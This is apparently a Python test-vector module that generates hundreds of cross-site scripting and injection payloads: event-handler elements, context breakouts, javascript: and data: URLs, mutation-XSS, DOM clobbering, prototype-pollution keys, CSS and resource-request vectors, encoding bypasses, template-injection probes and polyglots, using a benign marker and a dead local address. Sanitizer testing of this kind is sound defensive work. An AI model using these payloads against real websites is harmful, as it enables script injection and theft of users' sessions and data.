"""Texts of every known class that turns into script, markup or a request, made by combination."""

from base64 import b64encode
from itertools import product
from urllib.parse import quote

ACT = "window.pwned=1"
UP = "top.pwned=1"
NOWHERE = "http://127.0.0.1:9/x"


def _entities(text: str, form: str) -> str:
    return "".join(form.format(ord(letter)) for letter in text)


SPELLINGS = (
    ACT,
    _entities(ACT, "&#{};"),
    _entities(ACT, "&#x{:X}"),
    _entities(ACT, "&#{:07d}"),
    "\\u0077indow.pwned=1",
    "window&lbrack;&apos;pwned&apos;&rsqb;&equals;1",
    "eval(atob('" + b64encode(ACT.encode()).decode() + "'))",
    "setTimeout`window.pwned=1`",
)
# Elements with what makes them act by themselves, or at a touch.
ACTING = (
    *(
        "img src=x onerror",
        "img src onerror",
        "image src=x onerror",
        "svg onload",
        "svg/onload",
        "body onload",
    ),
    *("body onpageshow", "body onhashchange", "body onmessage", "body onresize", "frameset onload"),
    *("video src=x onerror", "audio src=x onerror", "video><source onerror", "iframe onload", "embed onload"),
    *("object data=x onerror", "script src=x onerror", "link rel=stylesheet href=x onerror", "style onload"),
    *("details open ontoggle", "dialog open onclose", "marquee onstart", "input autofocus onfocus"),
    *(
        "select autofocus onfocus",
        "textarea autofocus onfocus",
        "x tabindex=1 autofocus onfocus",
        "button onclick",
    ),
    *("a href=# onmouseover", "div onpointerenter", "p contenteditable onbeforeinput", "form onsubmit"),
    *("svg><animate attributeName=x dur=1s onbegin", "svg><set attributeName=x dur=1s onend", "math onclick"),
    *("div style=animation-name:x onanimationstart", "div style=transition:1s ontransitionend"),
    *("div popover onbeforetoggle", "table background=x onscroll", "xmp onwheel", "custom-element onfocusin"),
)
QUOTES = ("", '"', "'", "`")
SPACES = (" ", "/", "\n", "\t", "\f", "\r\n", "\0", "/\x0b")


def _elements() -> list[str]:
    quoted = [f"<{acting}={q}{ACT}{q}>" for acting, q in product(ACTING, QUOTES)]
    spelt = [f"<{acting}={spelling}>" for acting, spelling in zip(ACTING * 8, SPELLINGS * 42, strict=False)]
    spaced = [
        f"<{acting.replace(' ', space)}={ACT}//"
        for acting, space in zip(ACTING * 8, SPACES * 42, strict=False)
    ]
    cased = [f"<{acting.swapcase().title()} = {ACT} " for acting in ACTING]
    return [*quoted, *spelt[::3], *spaced[::3], *cased]


BREAKS = (
    *(
        '"',
        "'",
        "`",
        ">",
        '">',
        "'>",
        "`>",
        "/>",
        "-->",
        "--!>",
        "<!-->",
        "]]>",
        "?>",
        "*/",
        "\\",
        '\\"',
        "\\'",
    ),
    *(
        "</script>",
        "</script\t>",
        "</SCRIPT/x>",
        "</style>",
        "</title>",
        "</textarea>",
        "</noscript>",
        "</xmp>",
    ),
    *("</template>", "</iframe>", "</noembed>", "</noframes>", "</select>", "</option>", "</svg>", "</math>"),
    *(
        "');",
        '");',
        '"});',
        "'}];",
        "\n",
        "\r",
        "\u2028",
        "\u2029",
        "\x85",
        "`;",
        "${",
        "}}",
        "\\u0022",
        "\\x27",
    ),
)
CORES = (f"<script>{ACT}</script>", f"<img src=x onerror={ACT}>", f"{ACT}//")


def _breaks() -> list[str]:
    return [f"{start}{core}" for start, core in product(BREAKS, CORES)]


SCHEMES = (
    f"javascript:{ACT}",
    f"javascript://example.org/%0a{ACT}",
    f"data:text/html,<script>{UP}</script>",
    "data:text/html;base64," + b64encode(f"<script>{UP}</script>".encode()).decode(),
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{UP}'/>",
    f"vbscript:{ACT}",
    "file:///etc/passwd",
    "blob:null/00000000-0000-0000-0000-000000000000",
    f"view-source:javascript:{ACT}",
    f"http:javascript:{ACT}",
)


def _addresses() -> list[str]:
    made = []
    for address in SCHEMES:
        scheme, _, rest = address.partition(":")
        made += [
            address,
            f"{scheme.upper()}:{rest}",
            f"{scheme.title().swapcase()}:{rest}",
            *(f"{sign}{address}" for sign in ("\t", "\n", "\x01", "\x1f", "\xa0", "\ufeff", "\u200b")),
            *(f"{scheme[:3]}{sign}{scheme[3:]}:{rest}" for sign in ("\t", "\n", "\r\n", "\0", "&Tab;")),
            f"{scheme}&colon;{rest}",
            f"{scheme}\t:{rest}",
            f"&#{ord(scheme[0])};{address[1:]}",
            f"&#x{ord(scheme[0]):x}{address[1:]}",
            f"{quote(scheme)}%3a{rest}",
            f"%{ord(scheme[0]):x}{address[1:]}",
        ]
    return [
        *made,
        *(
            "//127.0.0.1:9/x",
            "\\\\127.0.0.1:9\\x",
            "/\\127.0.0.1:9/x",
            "///127.0.0.1:9/x",
            "http:/\\127.0.0.1:9",
        ),
        *(
            "https://user:pass@127.0.0.1:9/",
            "https://example.org@127.0.0.1:9/",
            "https://127.0.0.1:9#@example.org",
        ),
        *(
            "https://[::1]:9/",
            "https://exam\u200bple.org/",
            "https://еxample.org/",
            "https:example.org",
            "http://",
        ),
        *(f'https://example.org/"onclick="{ACT}', f"https://example.org/' onclick='{ACT}", "https://"),
        *(f"https://example.org/><script>{ACT}</script>", "https://example.org/\u202egpj.exe", "HTTPS://\t/"),
    ]


MUTATING = (
    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
    f"<svg></p><style><a id='</style><img src=x onerror={ACT}>'>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={ACT}&gt;'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={ACT}>",
    f"<svg><foreignObject><p><style><!--</style><a title='--><img src=x onerror={ACT}>'>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={ACT}></annotation-xml></math>",
    f"<table><td><svg><desc><td></desc><img src=x onerror={ACT}>",
    f"<table><img src=x onerror={ACT}><tr>",
    f"<select><template><img src=x onerror={ACT}></template><option><script>{ACT}</script>",
    f"<select><style></select><img src=x onerror={ACT}></style>",
    f"<template><script>{ACT}</script></template><template shadowrootmode=open><img src=x onerror={ACT}>",
    f"<div shadowroot=open><slot><img src=x onerror={ACT}>",
    f"<svg><style>&lt;/style&gt;&lt;img src=x onerror={ACT}&gt;",
    f"<svg><title><![CDATA[</title><img src=x onerror={ACT}>]]>",
    f"<title><svg><script>{ACT}</script>",
    f"<xmp><p title='</xmp><img src=x onerror={ACT}>'>",
    f"<plaintext><img src=x onerror={ACT}>",
    f"<a><b><table><a><img src=x onerror={ACT}>",
    f"<!--><img src=x onerror={ACT}>-->",
    f"<!--[if gte IE 4]><script>{ACT}</script><![endif]-->",
    f"<? <img src=x onerror={ACT}> ?>",
    f"<![CDATA[<img src=x onerror={ACT}>]]>",
    f"<!DOCTYPE x [<!ENTITY y SYSTEM '{NOWHERE}'>]>&y;",
    f"<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={UP}/>#x'/>",
    f"<svg><a href='javascript:{ACT}'><text>x</text></a></svg>",
    f"<svg><image href='{NOWHERE}'/><feImage href='{NOWHERE}'/></svg>",
    f"<math href='javascript:{ACT}'>x</math>",
    f"<img src=`x`onerror={ACT}>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<<script>{ACT}//<</script>",
)
# What becomes a property of the window or of a form by its id or name.
CLOBBERING = tuple(
    template.format(name)
    for name in ("conflictmap", "conflictmapViewer", "L", "location", "getElementById", "body", "cookie")
    for template in (
        "<img id={0} name={0}>",
        "<a id={0}><a id={0} name=ready href=x:y>",
        "<form id={0}><input name=state>",
    )
)
KEYS = (
    *(
        "__proto__",
        "__proto__[pwned]",
        "constructor",
        "constructor.prototype.pwned",
        "prototype",
        "hasOwnProperty",
    ),
    *(
        "toString",
        "valueOf",
        "toJSON",
        "__defineGetter__",
        "__lookupSetter__",
        "length",
        "then",
        "undefined",
        "null",
    ),
    *(
        "NaN",
        "Infinity",
        "0",
        "-1",
        "1e999",
        "true",
        "[object Object]",
        '{"__proto__":{"pwned":1}}',
        "this",
        "window",
    ),
)
REQUESTING = tuple(
    form.format(NOWHERE)
    for form in (
        *(
            "<base href={0}>",
            "<link rel=stylesheet href={0}>",
            "<link rel=prefetch href={0}>",
            "<link rel=icon href={0}>",
        ),
        *(
            "<link rel=manifest href={0}>",
            "<link rel=preload as=image href={0}>",
            "<link rel=modulepreload href={0}>",
        ),
        *("<iframe src={0}>", "<frame src={0}>", "<object data={0}>", "<embed src={0}>", "<applet code={0}>"),
        *("<img src={0}>", "<img srcset={0}>", "<picture><source srcset={0}><img>", "<video poster={0}>"),
        *("<audio src={0}>", "<track src={0}>", "<input type=image src={0}>", "<body background={0}>"),
        *(
            "<form action={0}><button autofocus>",
            "<button formaction={0}>",
            "<a ping={0} href={0}>",
            "<area href={0}>",
        ),
        *("<script src={0}></script>", "<script type=module>import '{0}'</script>", "<portal src={0}>"),
        *('<script type=speculationrules>{{"prefetch":[{{"urls":["{0}"]}}]}}</script>', "<q cite={0}>"),
        *(
            "<style>@import '{0}'</style>",
            "<style>*{{background:url({0})}}</style>",
            "<p style=background:url({0})>",
        ),
        *(
            '<p style="list-style:url({0})">',
            "<style>@font-face{{font-family:x;src:url({0})}}</style>",
            "url({0})",
        ),
        *(
            "}} body {{ background: url({0}) }}",
            "red;background:url({0})",
            "image-set('{0}' 1x)",
            "\\75rl({0})",
        ),
        *("expression(fetch('{0}'))", "-moz-binding:url({0})", "behavior:url({0})", "var(--x,url({0}))"),
        *("![x]({0})", "[x]: {0}", "<{0}>", "[[{0}]]", "{{{{<{0}>}}}}"),
    )
)
# Chromium leaves a page for such an element wherever it stands; no policy of a page forbids that.
LEAVING = (
    f"<meta http-equiv=refresh content='0;url={NOWHERE}'>",
    f"<META HTTP-EQUIV='Refresh' CONTENT='0; URL=javascript:{ACT}'>",
    f'<meta http-equiv=refresh content="0;url=data:text/html,<script>{UP}</script>">',
)
OTHER_ELEMENTS = (
    f"<iframe srcdoc='<script>{UP}</script>'></iframe>",
    f'<iframe srcdoc="&lt;script&gt;{UP}&lt;/script&gt;"></iframe>',
    f"<iframe src='javascript:{UP}'></iframe>",
    f"<object data='data:text/html,<script>{UP}</script>'></object>",
    f"<embed src='data:text/html,<script>{UP}</script>'>",
    f"<form action='javascript:{ACT}'><input type=submit autofocus>",
    f"<isindex action=javascript:{ACT}>",
    f"<script>{ACT}</script>",
    f"<script/x>{ACT}</script>",
    f"<script\n>{ACT}</script\n>",
    f"<script type=module>{ACT}</script>",
    f"<script src='data:text/javascript,{ACT}'></script>",
    f"<script>/*</script><script>*/{ACT}</script>",
    f"<script>{ACT}",
    "<script>",
    "<!--<script>",
    "<!--",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<meta http-equiv=Set-Cookie content='x=1'>",
    "<meta charset=utf-7>",
)
ENCODED = (
    f"+ADw-script+AD4-{ACT}+ADw-/script+AD4-",
    f"\xbcscript\xbe{ACT}\xbc/script\xbe",
    f"\xc0\xbcscript\xc0\xbe{ACT}",
    f"＜script＞{ACT}＜/script＞",
    f"﹤img src=x onerror={ACT}﹥",
    f"‹script›{ACT}",
    f"\u02bconmouseover=\u02bc{ACT}",
    f"%3Cscript%3E{ACT}%3C/script%3E",
    f"%253Cscript%253E{ACT}",
    f"%u003Cscript%u003E{ACT}",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{ACT}",
    f"\\74script\\76{ACT}",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"&LT;script&GT;{ACT}",
    f"&amp;lt;script&amp;gt;{ACT}",
    f"&#60script&#62{ACT}",
    f"\x1b$B<script>{ACT}</script>\x1b(B",
    f"~{{<script>{ACT}</script>~}}",
    f"ſcript <ſcript>{ACT}</ſcript>",
    f"<\0script>{ACT}</\0script>",
    f"<s\u200bcript>{ACT}</s\u200bcript>",
)
TEMPLATES = tuple(
    form.format(inner)
    for form in (
        "{{{{{0}}}}}",
        "${{{0}}}",
        "<%={0}%>",
        "#{{{0}}}",
        "{{%{0}%}}",
        "*{{{0}}}",
        "[[${{{0}}}]]",
        "{{{{{{{0}}}}}}}",
    )
    for inner in (
        "7*7",
        "constructor.constructor('" + ACT + "')()",
        "''.__class__.__mro__[1].__subclasses__()",
    )
)
POLYGLOTS = (
    (
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */onerror={ACT} )//%0D%0A//</stYle/</titLe/</scRipt/--!>"
        f"\\x3csVg/<sVg/oNloAd={ACT}//>\\x3e"
    ),
    f'\'">><marquee><img src=x onerror={ACT}></marquee>"></plaintext\\></|\\><plaintext/onmouseover={ACT}>',
    f"\" onclick={ACT}//<button ' onclick={ACT}//> */ {ACT}//",
    f"'-({ACT})-'\"-({ACT})-\"`-({ACT})-`",
    f"</script></style></title></textarea></noscript></template>--!>]]><svg onload={ACT}>",
    f'{{"a":"</script><script>{ACT}</script>"}}',
    f'\\"}}]);{ACT};//',
    f"%0d%0aContent-Type: text/html%0d%0a%0d%0a<script>{ACT}</script>",
)
INVISIBLE = tuple(
    f"{mark}<b>{number}{mark}"
    for number, mark in enumerate(
        "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200b\u200c\u200d\u200e\u200f\u2060\u061c\ufeff\u00ad\u034f\u180e"
        "\u115f\u3164\ufff9\U000e0001"
    )
)


def vectors() -> tuple[str, ...]:
    """Return the texts in a fixed order, no two of them the same."""
    made = (
        *_elements(),
        *_breaks(),
        *_addresses(),
        *(MUTATING + CLOBBERING + KEYS + REQUESTING + LEAVING + OTHER_ELEMENTS),
        *(ENCODED + TEMPLATES + POLYGLOTS + INVISIBLE),
    )
    return tuple(dict.fromkeys(made))
